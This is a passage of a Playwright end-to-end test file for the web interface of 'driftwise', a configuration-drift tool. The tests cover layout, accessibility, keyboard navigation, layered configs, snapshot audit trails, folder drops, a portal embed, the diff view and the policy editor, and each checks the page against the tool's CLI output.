    const page = await openApp(t, '', { viewport: { width, height: 900 } });
    const count = await page.locator('[data-example]').count();
    for (let i = 0; i < count; i++) {
      await page.click(`[data-example="${i}"]`);
      await page.waitForSelector('.finding');
      await page.locator('.finding button').first().click();
      const { scroll, inner } = await page.evaluate(() => ({ scroll: document.documentElement.scrollWidth, inner: innerWidth }));
      if (scroll > inner) wide[`${width} px, example ${i}`] = scroll;
      // On a laptop (1440 x 900) and at 1024 x 768 the findings and the detail, beside each other,
      // are on the first screen: a finding and the detail's heading show without scrolling.
      if (width !== 390) {
        await page.setViewportSize({ width, height: width === 1024 ? 768 : 900 });
        await page.evaluate(() => window.scrollTo(0, 0));
        const fold = await page.evaluate(() => {
          const bottom = (sel) => document.querySelector(sel)?.getBoundingClientRect().bottom ?? Infinity;
          const list = document.querySelector('.finding-list').getBoundingClientRect();
          const detail = document.querySelector('.detail').getBoundingClientRect();
          return { finding: bottom('.finding-list .finding'), detail: bottom('.finding-detail h2, .violation-detail h2'), side: detail.left >= list.right - 1, height: innerHeight };
        });
        if (!(fold.finding <= fold.height && fold.detail <= fold.height && fold.side)) wide[`fold at ${width} px, example ${i}`] = fold;
        await page.setViewportSize({ width, height: 900 });
      }
      if (width === 390) {
        const violations = await axeViolations(page);
        if (violations.length) wide[`axe at 390 px, example ${i}`] = violations;
      }
    }
  }
  assert.deepEqual(wide, {});
});

test('the findings list is one tab stop, and the arrow keys move the selection and the focus through it', async (t) => {
  const page = await openApp(t, '#example=0');
  await page.waitForSelector('.finding.selected');
  assert.equal(await page.locator('.finding-list button[tabindex="0"]').count(), 1);
  assert.equal(await page.locator('.finding-list button[tabindex="0"]').evaluate((b) => b.closest('.finding').classList.contains('selected')), true);
  await page.locator('.finding.selected button').focus();
  const ids = await page.$$eval('.finding', (els) => els.map((e) => e.id));
  const first = await page.locator('.finding.selected').getAttribute('id');
  await page.keyboard.press('ArrowDown');
  const next = ids[ids.indexOf(first) + 1];
  await page.waitForFunction((id) => document.activeElement?.closest('.finding')?.id === id, next);
  assert.equal(await page.locator('.finding.selected').getAttribute('id'), next);
  assert.equal(await page.locator('.finding-list button[tabindex="0"]').evaluate((b) => b.closest('.finding').id), next);
});

test('the view is in the address: a shared address opens the same example, filters, sort and finding', async (t) => {
  const shared = '#example=0&env=env2_config&sort=path&finding=env2_config%20/database/host';
  const page = await openApp(t, shared);
  await page.waitForSelector('.finding.selected');
  const selected = page.locator('.finding.selected');
  assert.equal(await selected.getAttribute('data-path'), '/database/host');
  assert.equal(await selected.getAttribute('data-env'), 'env2_config');
  assert.equal(await page.locator('#sort').inputValue(), 'path');
  assert.equal(await page.locator('select[aria-label="Environment filter"]').inputValue(), 'env2_config');
  assert.equal(await page.evaluate(() => location.hash), shared);
  // Changing the view changes the address, without a navigation.
  await page.selectOption('#sort', 'severity');
  await page.selectOption('select[aria-label="Environment filter"]', '');
  assert.equal(await page.evaluate(() => location.hash), '#example=0&finding=env2_config%20/database/host');
});

for (const colorScheme of ['light', 'dark']) test(`axe-core finds no WCAG 2.1 AA violation on any example or on a Kubernetes pair (${colorScheme} theme)`, async (t) => {
  const page = await openApp(t, '', { colorScheme });
  const background = await page.evaluate(() => getComputedStyle(document.documentElement).backgroundColor);
  assert.equal(background, colorScheme === 'dark' ? 'rgb(13, 17, 23)' : 'rgb(246, 247, 249)');
  const count = await page.locator('[data-example]').count();
  const found = {};
  for (let i = 0; i < count; i++) {
    await page.click(`[data-example="${i}"]`);
    await page.waitForSelector('.finding');
    await page.locator('.finding button').first().click();
    await page.waitForSelector('.finding-detail');
    const violations = await axeViolations(page);
    if (violations.length) found[`example ${i}`] = violations;
  }
  if (await page.locator('text=Remove all').count()) await page.click('text=Remove all');
  await page.setInputFiles('#file-input', ['base.yaml', 'live.yaml'].map((f) => join(repo, 'tests', 'cases', 'kubernetes-live', f)));
  await page.waitForSelector('.finding');
  await page.locator('.finding button').first().click();
  const k8s = await axeViolations(page);
  if (k8s.length) found['kubernetes pair'] = k8s;
  assert.deepEqual(found, {});
  // One narrow live region, the count, rather than the whole page announcing every change.
  const live = await page.locator('[aria-live]').evaluateAll((es) => es.map((e) => e.className));
  assert.deepEqual(live, ['count']);
  // The diff view wraps long lines instead of scrolling, so it holds no region a keyboard cannot reach.
  const diff = page.locator('.finding-detail table.diff');
  assert.equal(await diff.count(), 1);
  assert.ok(await diff.evaluate((el) => el.scrollWidth <= el.clientWidth + 1));
});

test('a layered estate: each finding names the layer that set it, what it overrode, and the effective configuration, as the CLI has them', async (t) => {
  const page = await openApp(t, '#example=7');
  await page.waitForSelector('.finding');
  const layersDir = join(repo, 'examples', 'layers');
  const exported = JSON.parse((await download(page, 'JSON')).text);
  const fromCli = JSON.parse(runCli(['check', '--layers', '--format', 'json'], layersDir));
  assert.deepEqual(exported, fromCli);
  await page.click('.finding[data-path="/log_level"][data-env="prod-eu"] button');
  const panel = page.locator('section.layers');
  await panel.waitFor();
  assert.deepEqual(await panel.locator('.stack li code').allTextContents(), ['base.yaml', 'providers/aws.yaml', 'envs/prod.yaml', 'envs/prod/eu-west-1.yaml']);
  assert.match(await panel.locator('.stack li.winner').textContent(), /envs\/prod\.yaml/);
  const explained = JSON.parse(execFileSync(cli, ['explain', '/log_level', '--env', 'prod-eu', '--format', 'json'], { cwd: layersDir }).toString());
  const history = await panel.locator('ol.history').first().textContent();
  assert.match(history, /set by envs\/prod\.yaml:3:12 = "warn"/);
  assert.match(history, new RegExp(`overrides ${explained.shadowed[0].file}:${explained.shadowed[0].span.start.line}`));
  // The effective configuration names the layer of every value; a click says what it overrode.
  await panel.locator('details.effective summary').click();
  const host = panel.locator('details.effective tr', { hasText: '/database/host' });
  assert.match(await host.textContent(), /envs\/prod\/eu-west-1\.yaml:4:9/);
  await host.locator('button').click();
  // The worker reads it (the page holds no parser): "Reading…", then the history.
  await panel.locator('.picked ol.history').waitFor();
  assert.match(await panel.locator('.picked').textContent(), /overrides providers\/aws\.yaml:3:9 = "db\.aws\.internal".*overrides base\.yaml:6:9/);
  // The plan reverts the override where it lives.
  await page.waitForSelector('.plan [data-download="diff"]:not([disabled])');
  const [file] = await Promise.all([page.waitForEvent('download'), page.click('[data-download="diff"]')]);
  const patch = await readFile(await file.path(), 'utf8');
  assert.match(patch, /--- a\/envs\/prod\.yaml/);
  assert.doesNotMatch(patch, /--- a\/base\.yaml/);
  await page.screenshot({ path: join(out, 'layers.png'), fullPage: true });
});

test('a snapshot bundle opens offline: versions listed, two compared as driftwise diff compares them, the audit trail checked', async (t) => {
  const dir = await scratchDir(t, 'driftwise-bundle-');
  for (const f of ['base_config.yaml', 'env1_config.yaml', 'env2_config.yaml']) await copyFile(join(repo, 'examples', 'classic', f), join(dir, f));
  const snap = (...extra) => execFileSync(cli, ['snapshot', 'base_config.yaml', 'env1_config.yaml', 'env2_config.yaml', '--author', 'ana', ...extra], { cwd: dir, encoding: 'utf8' }).trim();
  const first = snap('-m', 'approved', '--tag', 'v1');
  execFileSync(cli, ['baseline', 'v1', '--author', 'carol'], { cwd: dir });
  const env1 = join(dir, 'env1_config.yaml');
  await writeFile(env1, (await readFile(env1, 'utf8')).replace('5432', '6543'));
  const second = snap('-m', 'port moved');
  execFileSync(cli, ['snapshot', 'export', '--all', '--out', 'estate.json'], { cwd: dir });
  const page = await openApp(t);
  await page.setInputFiles('#file-input', [join(dir, 'estate.json')]);
  const panel = page.locator('section.snapshots');
  await panel.waitFor();
  assert.match(await panel.locator('.audit-status').textContent(), /Audit trail holds: 3 entries/);
  const rows = await panel.locator('tbody tr').evaluateAll((rs) => rs.map((r) => r.dataset.snapshot));
  assert.deepEqual(rows, [second, first]);
  assert.match(await panel.locator(`tr[data-snapshot="${first}"]`).textContent(), /baseline.*v1.*ana.*approved/);
  await panel.locator('button', { hasText: 'Compare' }).click();
  await page.waitForSelector('.finding');
  const exported = JSON.parse((await download(page, 'JSON')).text);
  let fromCli;
  try { execFileSync(cli, ['diff', first, second, '--format', 'json'], { cwd: dir }); } catch (e) { fromCli = JSON.parse(e.stdout.toString()); }
  assert.deepEqual(exported, fromCli);
  await page.click('.finding[data-path="/database/port"] button');
  assert.match(await page.locator('.finding-detail').textContent(), /env1_config\.yaml@sha256:/);
  // A bundle whose audit trail was edited says so, naming the entry.
  const bundle = await readFile(join(dir, 'estate.json'), 'utf8');
  await writeFile(join(dir, 'tampered.json'), bundle.replace('approved', 'approve'));
  await page.setInputFiles('#file-input', [join(dir, 'tampered.json')]);
  await page.waitForFunction(() => document.querySelector('section.snapshots .audit-status.broken'));
  assert.match(await panel.locator('.audit-status').first().textContent(), /Audit trail does not hold: .*audit entry 1/);
  await page.screenshot({ path: join(out, 'snapshots.png'), fullPage: true });
});

test('one broken input is an error card at its line; every other environment still reports and exports, as check --keep-going', async (t) => {
  const page = await openApp(t);
  const dir = await scratchDir(t, 'driftwise-partial-');
  await writeFile(join(dir, 'base.yaml'), 'a: 1\nb: 2\n');
  await writeFile(join(dir, 'prod.yaml'), 'a: 1\nb: 3\n');
  await writeFile(join(dir, 'broken.yaml'), 'a: 1\nb: [2, 3\nc: 4\n');
  await page.setInputFiles('#file-input', ['base.yaml', 'prod.yaml', 'broken.yaml'].map((f) => join(dir, f)));
  await page.waitForSelector('.finding');
  const card = page.locator('.error-card');
  assert.equal(await card.count(), 1);
  assert.match(await card.locator('p').first().textContent(), /^broken\.yaml:3:2: illegal placement/);
  assert.equal(await card.locator('pre.excerpt').textContent(), 'c: 4\n ^');
  assert.match(await card.textContent(), /broken is left out; every other environment is still compared/);
  assert.deepEqual(await page.$$eval('.finding', (els) => els.map((e) => `${e.dataset.env} ${e.dataset.path}`)), ['prod /b']);
  const exported = JSON.parse((await download(page, 'JSON')).text);
  let fromCli;
  try { execFileSync(cli, ['check', 'base.yaml', 'prod.yaml', 'broken.yaml', '--keep-going', '--format', 'json'], { cwd: dir, stdio: ['ignore', 'pipe', 'ignore'] }); } catch (e) { fromCli = JSON.parse(e.stdout.toString()); }
  assert.deepEqual(exported, fromCli);
});

test('a rule made from a finding lands in the policy editor and classifies the finding at once', async (t) => {
  const page = await openApp(t, '#example=0');
  await page.waitForSelector('.finding');
  await page.click('.finding[data-path="/database/host"][data-env="env2_config"] button');
  await page.click('.make-rule summary');
  const add = page.locator('.make-rule button');
  assert.equal(await add.isDisabled(), true, 'an expected rule needs a reason');
  await page.fill('.make-rule input[type=text]', 'one database per environment');
  await add.click();
  await page.waitForSelector('.finding[data-path="/database/host"][data-env="env2_config"][data-expected=true]');
  assert.equal(await page.locator('.finding[data-path="/database/host"][data-env="env1_config"][data-expected=true]').count(), 0, 'only env2_config');
  assert.match(await page.locator('.policy textarea').inputValue(), /- path: \/database\/host\n    envs:\n      - env2_config\n    reason: one database per environment/);
});

test('the drift matrix is one tab stop; arrow keys move between its cells, each named by path and environment', async (t) => {
  const page = await openApp(t, '#example=0');
  await page.waitForSelector('.matrix button.cell');
  assert.equal(await page.locator('.matrix button.cell[tabindex="0"]').count(), 1);
  const start = page.locator('.matrix button.cell[tabindex="0"]');
  assert.match(await start.getAttribute('aria-label'), /^\/\S+ in \w+: \w/);
  await start.focus();
  const before = await page.evaluate(() => [document.activeElement.dataset.row, document.activeElement.dataset.col]);
  const selectedBefore = await page.locator('.finding.selected').getAttribute('id');
  // Down to the next row that drifted (skipping cells equal to the base), the list's selection untouched.
  await page.keyboard.press('ArrowDown');
  const after = await page.evaluate(() => [document.activeElement.dataset.row, document.activeElement.dataset.col, document.activeElement.getAttribute('tabindex')]);
  assert.ok(Number(after[0]) > Number(before[0]), `${before} -> ${after}`);
  assert.equal(after[2], '0');
  assert.equal(await page.locator('.matrix button.cell[tabindex="0"]').count(), 1);
  assert.equal(await page.locator('.finding.selected').getAttribute('id'), selectedBefore);
  // Enter opens that finding.
  await page.keyboard.press('Enter');
  const label = await page.evaluate(() => document.activeElement.getAttribute('aria-label'));
  const [path, env] = label.split(': ')[0].split(' in ');
  await page.waitForFunction(([p, e]) => document.querySelector('.finding.selected')?.dataset.path === p && document.querySelector('.finding.selected')?.dataset.env === e, [path, env]);
});

test('on a phone a tapped finding brings its detail into view; on a laptop the detail is already beside the list', async (t) => {
  const page = await openApp(t, '#example=1');
  await page.setViewportSize({ width: 390, height: 800 });
  await page.waitForSelector('.finding');
  const last = page.locator('.finding button').last();
  await last.click();
  await page.waitForFunction(() => {
    const r = document.querySelector('.finding-detail')?.getBoundingClientRect();
    return r && r.top >= -1 && r.top < window.innerHeight / 2;
  });
  await page.setViewportSize({ width: 1440, height: 900 });
  await page.locator('.finding button').first().scrollIntoViewIfNeeded();
  const y = await page.evaluate(() => window.scrollY);
  await page.evaluate(() => document.querySelector('.finding button').click());
  await page.waitForFunction(() => document.querySelector('.finding').classList.contains('selected'));
  await page.waitForTimeout(100);
  assert.equal(await page.evaluate(() => window.scrollY), y, 'no jump when the detail is beside the list');
});

test('folders are environments: picked, dropped or passed in by a portal, compared file by file as driftwise check DIR DIR compares them', async (t) => {
  const dir = await scratchDir(t, 'driftwise-folders-');
  const files = {
    'base/app.yaml': 'name: shop\nreplicas: 2\n',
    'base/db/pool.toml': '[pool]\nmax = 5\n',
    'base/.git/config': '[core]\nbare = false\n',
    'prod/app.yaml': 'name: shop\nreplicas: 3\n',
    'prod/db/pool.toml': '[pool]\nmax = 5\n',
    'prod/extra.json': '{"feature": true}\n',
    'prod/.hidden.yaml': 'x: 1\n',
  };
  for (const [name, text] of Object.entries(files)) {
    await mkdir(join(dir, name, '..'), { recursive: true });
    await writeFile(join(dir, name), text);
  }
  let fromCli;
  try { execFileSync(cli, ['check', 'base', 'prod', '--format', 'json'], { cwd: dir, stdio: ['ignore', 'pipe', 'ignore'] }); } catch (e) { fromCli = JSON.parse(e.stdout.toString()); }
  assert.deepEqual(fromCli.findings.map((f) => [f.kind, f.path]), [['changed', '/app.yaml/replicas'], ['added', '/extra.json']]);
  const shownFindings = (page) => page.$$eval('.finding', (els) => els.map((e) => `${e.dataset.env} ${e.dataset.kind} ${e.dataset.path}`).sort());
  const expected = fromCli.findings.map((f) => `${f.environment} ${f.kind} ${f.keyed_path}`).sort();

  // Picked with the folder picker, one folder at a time: the same report as the CLI's, byte for byte.
  const page = await openApp(t);
  await page.setInputFiles('#folder-input', join(dir, 'base'));
  await page.waitForSelector('.file[data-file="base"]');
  await page.setInputFiles('#folder-input', join(dir, 'prod'));
  await page.waitForSelector('.finding');
  assert.deepEqual(await page.$$eval('.file', (els) => els.map((e) => [e.dataset.file, e.querySelector('.file-meta').textContent])),
    [['base', '2 files · 38 B'], ['prod', '3 files · 56 B']]);
  assert.equal(await page.locator('.file[data-file="prod"] select').count(), 0, 'a folder has no role to pick');
  assert.deepEqual(await shownFindings(page), expected);
  assert.deepEqual(JSON.parse((await download(page, 'JSON')).text), fromCli);
  // A finding points into the folder's file, and its source shows.
  await page.click('.finding[data-path="/app.yaml/replicas"] button');
  const detail = page.locator('.finding-detail');
  assert.deepEqual(await detail.locator('.loc').allTextContents(), ['base/app.yaml:2:11', 'prod/app.yaml:2:11']);
  assert.deepEqual(await detail.locator('mark').allTextContents(), ['2', '3']);
  assert.deepEqual(await detail.locator('.ptr').allTextContents(), ['/replicas', '/replicas'], 'the pointer in each file');
  // The plan edits each file of the folder, as driftwise plan and apply --dry-run do, and deletes
  // the file the environment alone holds.
  await page.waitForSelector('.plan [data-download="diff"]');
  const [patch] = await Promise.all([page.waitForEvent('download'), page.click('[data-download="diff"]')]);
  const fromPage = await readFile(await patch.path(), 'utf8');
  execFileSync(cli, ['plan', 'base', 'prod', '--out', 'plan.json'], { cwd: dir });
  const dryRun = spawnSync(cli, ['apply', 'plan.json', '--dry-run', '--approve'], { cwd: dir, encoding: 'utf8' });
  assert.equal(fromPage, dryRun.stdout);
  assert.match(fromPage, /^diff --git a\/prod\/app.yaml b\/prod\/app.yaml\n/);
  assert.match(fromPage, /\ndiff --git a\/prod\/extra.json b\/prod\/extra.json\ndeleted file mode 100644\n--- a\/prod\/extra.json\n\+\+\+ \/dev\/null\n/);
  assert.equal(await page.locator('.plan .not-applied').count(), 0, 'every action is carried out');
  assert.equal(await page.locator('.plan .deletes code').allTextContents().then((t) => t.join()), 'prod/extra.json');
  assert.equal(await page.locator('[data-download="file:prod/extra.json"]').count(), 0, 'no empty file to download for a deleted one');
  assert.equal(await page.locator('[data-download="merge-patch"]').isDisabled(), false, 'a deleted file does not refuse the merge patch');

  // Dropped: files alone go as files; folders are walked, entry batch by entry batch, the way the
  // browser's FileSystemDirectoryReader hands them out. (A test cannot make the browser's own
  // entries for a drop, so these stand in for them with the same interface; a file that cannot be
  // read is reported and the rest of its folder compared.)
  const dropped = await openApp(t);
  const drop = (plan) => dropped.evaluate((plan) => {
    const entry = (path, node) => typeof node === 'string' || node === null
      ? { isFile: true, isDirectory: false, name: path.split('/').pop(), fullPath: path,
        file: (ok, fail) => setTimeout(() => node === null ? fail(new DOMException('A requested file or directory could not be found', 'NotFoundError')) : ok(new File([node], path.split('/').pop())), 0) }
      : { isFile: false, isDirectory: true, name: path.split('/').pop(), fullPath: path,
        createReader: () => {
          // Two batches, then none.
          const all = Object.entries(node).map(([n, v]) => entry(`${path}/${n}`, v));
          const batches = [all.slice(0, 1), all.slice(1), []];
          return { readEntries: (ok) => setTimeout(() => ok(batches.shift()), 0) };
        } };
    const entries = Object.entries(plan).map(([n, v]) => entry(`/${n}`, v));
    const items = { length: entries.length };
    entries.forEach((e, i) => { items[i] = { kind: 'file', webkitGetAsEntry: () => e }; });
    const event = new DragEvent('drop', { bubbles: true, cancelable: true });
    Object.defineProperty(event, 'dataTransfer', { value: { items, files: { length: 0, item: () => null } } });
    document.querySelector('.app').dispatchEvent(event);
  }, plan);
  await drop({
    base: { 'app.yaml': files['base/app.yaml'], db: { 'pool.toml': files['base/db/pool.toml'] }, '.git': { config: 'x' } },
    prod: { 'app.yaml': files['prod/app.yaml'], db: { 'pool.toml': files['prod/db/pool.toml'], 'gone.toml': null }, 'extra.json': files['prod/extra.json'] },
  });
  await dropped.waitForSelector('.finding');
  assert.deepEqual(await shownFindings(dropped), expected);
  assert.match(await dropped.locator('.error').first().textContent(), /prod\/db\/gone\.toml: cannot read: A requested file or directory could not be found/);
  // A drop of plain files (a real DataTransfer) adds them beside the folders.
  await dropped.evaluate(() => {
    const data = new DataTransfer();
    data.items.add(new File(['name: shop\nreplicas: 4\n'], 'staging.yaml'));
    document.querySelector('.app').dispatchEvent(new DragEvent('drop', { bubbles: true, cancelable: true, dataTransfer: data }));
  });
  await dropped.waitForSelector('.file[data-file="staging.yaml"]');
  await dropped.waitForSelector('.finding[data-env="staging"]');

  // Passed in by a portal, as the npm package takes folders: { name, files }.
  const portal = await openApp(t);
  await portal.goto(`${origin}/embed/index.html`);
  await portal.waitForFunction(() => document.getElementById('portal-status').dataset.findings);
  await portal.evaluate((files) => {
    const folder = (name) => ({ name, files: Object.entries(files).filter(([n]) => n.startsWith(`${name}/`) && !n.includes('/.')).map(([n, text]) => ({ name: n, text })) });
    document.getElementById('review').load({ files: [folder('base'), folder('prod')] });
  }, files);
  await portal.waitForFunction((n) => document.getElementById('review').shadowRoot.querySelectorAll('.finding').length === n
    && document.getElementById('review').shadowRoot.querySelector('.file[data-file="prod"]'), expected.length);
  const inPortal = await portal.evaluate(() => [...document.getElementById('review').shadowRoot.querySelectorAll('.finding')].map((e) => `${e.dataset.env} ${e.dataset.kind} ${e.dataset.path}`).sort());
  assert.deepEqual(inPortal, expected);
});

test('a portal embeds the app: files passed in, events out, and neither page\'s styles reach the other', async (t) => {
  const page = await openApp(t);
  await page.goto(`${origin}/embed/index.html`);
  const status = page.locator('#portal-status');
  await page.waitForFunction(() => document.getElementById('portal-status').dataset.findings);
  const fromCli = JSON.parse(runCli(['check', '--format', 'json', 'base_config.yaml', 'env1_config.yaml']));
  assert.equal(await status.getAttribute('data-findings'), String(fromCli.findings.length));
  assert.match(await status.textContent(), /in 1 environment/);
  await page.waitForFunction(() => document.getElementById('portal-status').dataset.planActions);
  // The app is in the element's shadow root, and its findings are there.
  const shadowFindings = await page.evaluate(() => document.getElementById('review').shadowRoot.querySelectorAll('.finding').length);
  assert.equal(shadowFindings, fromCli.findings.length);
  // The portal's loud styles stay out of the app, and the app's stay out of the portal.
  const colours = await page.evaluate(() => {
    const shadow = document.getElementById('review').shadowRoot;
    const appButton = shadow.querySelector('.toolbar button, button');
    return {
      portalButton: getComputedStyle(document.getElementById('check')).backgroundColor,
      portalHeading: getComputedStyle(document.querySelector('h1')).color,
      portalBody: getComputedStyle(document.body).fontFamily,
      appButton: getComputedStyle(appButton).backgroundColor,
      appHeading: getComputedStyle(shadow.querySelector('h2')).color,
    };
  });
  assert.equal(colours.portalButton, 'rgb(255, 105, 180)');
  assert.equal(colours.portalHeading, 'rgb(128, 0, 128)');
  assert.match(colours.portalBody, /Georgia/);
  assert.notEqual(colours.appButton, 'rgb(255, 105, 180)');
  assert.notEqual(colours.appHeading, 'rgb(128, 0, 128)');
  // The portal's own keys are its own: j on the portal page does not move the app's selection.
  const selected = () => page.evaluate(() => document.getElementById('review').shadowRoot.querySelector('.finding.selected')?.id);
  await page.locator('driftwise-review .finding button').first().click();
  const first = await selected();
  assert.ok(first);
  await page.keyboard.press('j');
  await page.waitForFunction((id) => document.getElementById('review').shadowRoot.querySelector('.finding.selected')?.id !== id, first);
  const second = await selected();
  await page.getByRole('heading', { name: 'Platform portal' }).click();
  await page.keyboard.press('j');
  await page.waitForTimeout(100);
  assert.equal(await selected(), second, 'j on the portal is the portal\'s');
  // An export is announced to the portal.
  const [file] = await Promise.all([page.waitForEvent('download'), page.evaluate(() => document.getElementById('review').shadowRoot.querySelector('[data-export="JSON"]').click())]);
  assert.ok(file);
  await page.waitForFunction(() => document.getElementById('portal-status').dataset.exported === 'json');
  // Loading again replaces the files.
  await page.click('#check');
  await page.waitForFunction(() => document.getElementById('portal-status').dataset.findings);
});

test('the diff view aligns both files around a finding, folds what did not change, marks words, wraps, and has a unified layout', async (t) => {
  // 100 settings; prod adds two lines above the change and has one very long value further down.
  const dir = await scratchDir(t, 'driftwise-diff-');
  const base = Array.from({ length: 100 }, (_, i) => `key${i}: value-${i}`);
  const env = [...base];
  env[30] = 'key30: value-30-prod';
  env.splice(20, 0, 'extra1: one', 'extra2: two');
  env[50] = `key48: ${'x'.repeat(400)}`;
  await writeFile(join(dir, 'base.yaml'), base.join('\n') + '\n');
  await writeFile(join(dir, 'prod.yaml'), env.join('\n') + '\n');
  const page = await openApp(t);
  await page.setInputFiles('#file-input', [join(dir, 'base.yaml'), join(dir, 'prod.yaml')]);
  await page.waitForSelector('.finding[data-path="/key30"]');
  await page.click('.finding[data-path="/key30"] button');
  const view = page.locator('.finding-detail .diff-view');
  const table = view.locator('table.diff.sbs');
  // Side by side: line 31 of the base and line 33 of prod on one row, both values marked, the
  // changed word highlighted on prod's side only.
  const hit = table.locator('tr.changed.hit');
  assert.deepEqual(await hit.locator('td.ln').allTextContents(), ['31', '33']);
  assert.deepEqual(await hit.locator('mark').allTextContents(), ['value-30', 'value-30-prod']);
  assert.deepEqual(await hit.locator('td.ins .word').allTextContents(), ['-prod']);
  assert.equal(await hit.locator('td.del .word').count(), 0);
  // Six rows of context either side, the rest folded: above, the two added lines among them.
  const rows = table.locator('tbody tr:not(.gap)');
  assert.equal(await rows.count(), 13);
  const expanders = table.locator('tr.gap button');
  assert.deepEqual(await expanders.allTextContents(), ['Show 26 lines (2 changed)', 'Show 15 more of 63 lines (1 changed)']);
  await expanders.first().click();
  assert.equal(await rows.count(), 39);
  assert.deepEqual(await expanders.allTextContents(), ['Show 15 more of 63 lines (1 changed)']);
  // The two added lines have an empty base side, and the rows after them stay aligned.
  const added = table.locator('tr.added');
  assert.equal(await added.count(), 2);
  assert.deepEqual(await added.first().locator('td.ln').allTextContents(), ['', '21']);
  assert.deepEqual(await table.locator('tbody tr').nth(22).locator('td.ln').allTextContents(), ['21', '23']);
  // Long lines wrap: nothing scrolls sideways.
  await expanders.last().click();
  assert.equal(await rows.count(), 54);
  assert.deepEqual(await expanders.allTextContents(), ['Show 15 more of 48 unchanged lines']);
  assert.ok(await table.evaluate((el) => el.scrollWidth <= el.clientWidth + 1), 'the table wraps long lines');
  const long = table.locator('td.code', { hasText: 'xxxxxxxx' }).first();
  assert.ok((await long.boundingBox()).height > 40, 'the 400-character value wraps onto several lines');
  // Unified: the changed line as a removal, then an addition, signed, with both numbers.
  await view.locator('button.toggle', { hasText: 'Unified' }).click();
  assert.equal(await view.locator('button.toggle', { hasText: 'Unified' }).getAttribute('aria-pressed'), 'true');
  const unified = view.locator('table.diff.unified');
  const changed = unified.locator('tr.hit');
  assert.deepEqual(await changed.locator('td.sign').allTextContents(), ['-', '+']);
  assert.deepEqual(await changed.locator('mark').allTextContents(), ['value-30', 'value-30-prod']);
  assert.deepEqual(await changed.nth(0).locator('td.ln').allTextContents(), ['31', '']);
  assert.deepEqual(await changed.nth(1).locator('td.ln').allTextContents(), ['', '33']);
  // The layout chosen stays for the next finding.
  await page.keyboard.press('j');
  await page.waitForFunction(() => document.querySelector('.finding.selected')?.dataset.path !== '/key30');
  assert.equal(await view.locator('table.diff.unified').count(), 1);
  await page.screenshot({ path: join(out, 'diff-view.png'), fullPage: true });
});

test('the policy editor numbers its lines, marks problems at them as they are typed, completes from the schema, and opens as a pane of its own', async (t) => {
  const page = await openApp(t, '#example=3');
  await page.waitForSelector('.finding');
  const editor = page.locator('#policy-editor');
  const text = await editor.inputValue();
  assert.equal(await page.locator('.policy .gutter .ln').count(), text.split('\n').length);
  // The stale rule is marked at its line.
  assert.deepEqual(await page.locator('.policy .gutter .ln.warning').allTextContents(), ['10']);
  assert.match(await page.locator('.policy .problem.warning').textContent(), /^line 10: expected\[3\] matched nothing/);
  // A typo is marked at its line and column as it is typed, before it is applied.
  await editor.fill('expected:\n  - path: /a\n    reson: typo\n');
  await page.waitForSelector('.policy .gutter .ln.error');
  assert.deepEqual(await page.locator('.policy .gutter .ln.error').allTextContents(), ['3']);
  assert.match(await page.locator('.policy .problem.error').textContent(), /^line 3, column 12: .*unknown field `reson`/);
  // Its place is a link to the line.
  await page.locator('.policy .problem.error button').click();
  const selected = await editor.evaluate((el) => el.value.slice(el.selectionStart, el.selectionEnd));
  assert.equal(selected, '    reson: typo');
  // Completion from the schema: the item's keys not yet written, then an enum's values.
  await editor.fill('expected:\n  - path: /a\n    re');
  await editor.press('Control+Space');
  const options = page.locator('#policy-completions [role=option]');
  assert.deepEqual(await options.locator('code').allTextContents(), ['reason']);
  await editor.press('Enter');
  assert.equal(await editor.inputValue(), 'expected:\n  - path: /a\n    reason: ');
  await page.waitForFunction(() => document.activeElement.id === 'policy-editor');
  await editor.press('Control+Space');
  assert.equal(await options.count(), 0, 'a reason is free text');
  await editor.fill('expected: []\n');
  await editor.press('Control+Space');
  const keys = await options.locator('code').allTextContents();
  assert.ok(keys.includes('ignore') && keys.includes('severity') && !keys.includes('expected'), keys.join(' '));
  await editor.press('ArrowDown');
  assert.equal(await options.nth(1).getAttribute('aria-selected'), 'true');
  await editor.press('Escape');
  assert.equal(await options.count(), 0);
  await editor.fill('fail_on: h');
  await editor.press('Control+Space');
  assert.deepEqual(await options.locator('code').allTextContents(), ['high']);
  await editor.press('Tab');
  assert.equal(await editor.inputValue(), 'fail_on: high');
  // A pane of its own, nearly the whole window, that passes axe-core and closes with Escape.
  await page.click('.policy-head button');
  const box = await page.locator('.policy.expanded').boundingBox();
  const viewport = page.viewportSize();
  assert.ok(box.width > viewport.width * 0.85 && box.height > viewport.height * 0.85, JSON.stringify(box));
  assert.ok((await page.locator('#policy-editor').boundingBox()).height > viewport.height * 0.5);
  await page.waitForFunction(() => document.activeElement.id === 'policy-editor');
  assert.deepEqual(await axeViolations(page), []);
  await page.screenshot({ path: join(out, 'policy-editor.png') });
  await editor.press('Escape');
  assert.equal(await page.locator('.policy.expanded').count(), 0);
});

/** Gives the scale test's files to a new page, `openFor` ms after it opened, and times it. */
async function timedScaleCheck(t, names, openFor) {
  // The worker's part: from the check request's message to the outcome's (the two large messages).
  const page = await openApp(t, '', {}, () => {
    window.__messages = [];
    // A message is its JSON, or an array of its JSON and the large texts sent beside it as UTF-8
    // bytes (web/src/codec.rs).
    const size = (m) => (typeof m === 'string' ? m.length
      : ArrayBuffer.isView(m) ? m.byteLength
        : Array.isArray(m) ? m.reduce((n, x) => n + size(x), 0) : 0);
    const post = Worker.prototype.postMessage;
    Worker.prototype.postMessage = function (m, ...rest) {
      if (size(m) > 100_000) window.__messages.push(['post', performance.now()]);
      return post.call(this, m, ...rest);
    };
    const slot = Object.getOwnPropertyDescriptor(Worker.prototype, 'onmessage');
    Object.defineProperty(Worker.prototype, 'onmessage', {
      set(handler) {
        slot.set.call(this, (e) => {
          if (size(e.data) > 100_000) window.__messages.push(['answer', performance.now()]);
          return handler(e);
        });
      },
      get() { return slot.get.call(this); },
    });
  });
  // Timed inside the page: from the input's change event (the files given) to the first finding
  // and the plan table in the DOM, which a polling waitForSelector would see late.
  await page.evaluate(() => {
    window.__longTasks = [];
    window.__times = {};
    new PerformanceObserver((list) => { for (const e of list.getEntries()) window.__longTasks.push(Math.round(e.duration)); }).observe({ type: 'longtask' });
    document.addEventListener('change', () => { window.__times.given ??= performance.now(); }, true);
    new MutationObserver(() => {
      if (window.__times.given === undefined) return;
      if (!window.__times.results && document.querySelector('.finding')) window.__times.results = performance.now();
      if (!window.__times.plan && document.querySelector('.plan-table')) window.__times.plan = performance.now();
    }).observe(document.body, { childList: true, subtree: true });
  });
  // Files given at once, or once the page has been open a while (as a person would give them).
  if (openFor) await page.waitForTimeout(openFor);
